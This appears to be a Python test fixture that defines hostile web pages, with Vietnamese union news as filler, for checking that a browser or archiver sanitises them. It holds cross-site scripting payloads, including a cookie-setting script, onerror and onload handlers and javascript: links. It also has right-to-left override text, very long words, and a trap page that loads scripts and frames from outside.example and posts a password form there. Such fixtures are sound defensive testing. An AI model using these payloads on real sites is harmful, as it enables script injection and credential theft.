"""What a hostile site may write: markup, addresses that run, letters that turn the line, words without an end."""

from __future__ import annotations

from tests.search.web.browser.written import Written, day

RUNS = "document.title='chạy rồi';document.cookie='stolen=1';alert(1)"
LONG_WORD = "đoànviên" * 1250  # 10,000 letters
TURNED = "Tin \u202eđảo chiều\u2066 của công đoàn"

MARKUP = Written(
    path="hop-thu",
    title=f'Bạn đọc hỏi: <script>{RUNS}</script><img src=x onerror="alert(1)"> có phải thỏa ước?',
    paragraphs=(
        f'Công đoàn trả lời: <a href="javascript:alert(1)">xem</a> và <svg onload="{RUNS}"> đều không phải thỏa ước.',
        "Bà Lò Thị Mận, Chủ tịch công đoàn, cho biết câu hỏi gửi kèm đoạn mã trong thư ngày 2/11/2023.",
    ),
    published=day(2023, 11, 2),
    section="<b>Hộp thư</b>",
    author="</a><script>alert(1)</script>",
)
RIGHT_TO_LEFT = Written(
    path="dao-chieu",
    title=TURNED,
    paragraphs=(
        f"{TURNED} tại xã Nậm Sen, theo lời bà Lò Thị Mận, Chủ tịch công đoàn xã, ngày 3/11/2023.",
        "Công đoàn xã mở lớp đọc thông viết thạo cho đoàn viên mới, mỗi tuần hai buổi tối tại nhà văn hóa của xã.",
    ),
    published=day(2023, 11, 3),
    section=TURNED,
    author=TURNED,
)
ENDLESS = Written(
    path="chu-dai",
    title=f"Công đoàn {LONG_WORD}",
    paragraphs=(f"Đoàn viên công đoàn đọc {LONG_WORD} trong hội nghị ngày 4/11/2023.", "Công đoàn giải thích. " * 10),
    published=day(2023, 11, 4),
    section=LONG_WORD[:400],
    author=LONG_WORD[:400],
)
CROWDED = Written(
    path="rat-nhieu-ten",
    title="Danh sách dài của công đoàn trong hội nghị cuối năm",
    paragraphs=(" ".join(f"Bà Lò Thị Mận gặp ông Giàng A Phềnh ngày {1 + n % 28}/11/2023." for n in range(250)),),
    published=day(2023, 11, 5),
)
#: A page whose archived copy would like to run, to call home, to lead away and to read cookies.
TRAP = Written(
    path="cai-bay",
    title="Công đoàn cảnh báo trang giả mạo gửi tới đoàn viên",
    paragraphs=(
        "Công đoàn tỉnh cảnh báo các trang giả mạo hỏi mật khẩu của đoàn viên trong tháng 11/2023.",
        "Đoàn viên không nên mở liên kết lạ và cần báo cho công đoàn cơ sở khi nhận được thư như vậy.",
    ),
    published=day(2023, 11, 6),
    head=(
        f"<script>{RUNS}</script><script src='https://outside.example/x.js'></script>"
        "<meta http-equiv='refresh' content='0; url=https://outside.example/away'>"
        "<base href='https://outside.example/'><link rel='stylesheet' href='https://outside.example/x.css'>"
        "<style>@import url(https://outside.example/y.css);"
        "body { background: url(https://outside.example/b.png) }</style>"
    ),
    attachment=(
        f'<img src="https://outside.example/x.png" onerror="{RUNS}"><img src="x" onerror="{RUNS}">'
        "<form action='https://outside.example/take' method='post'><input name='password'><button>Gửi</button></form>"
        "<iframe src='https://outside.example/frame'></iframe><object data='https://outside.example/o'></object>"
        f'<svg onload="{RUNS}"></svg><a href="javascript:{RUNS}">bấm</a><video src="https://outside.example/v"></video>'
        "<a target='_top' href='https://outside.example/top'>đi</a>"
    ),
)

HOSTILE: tuple[Written, ...] = (MARKUP, RIGHT_TO_LEFT, ENDLESS, CROWDED, TRAP)
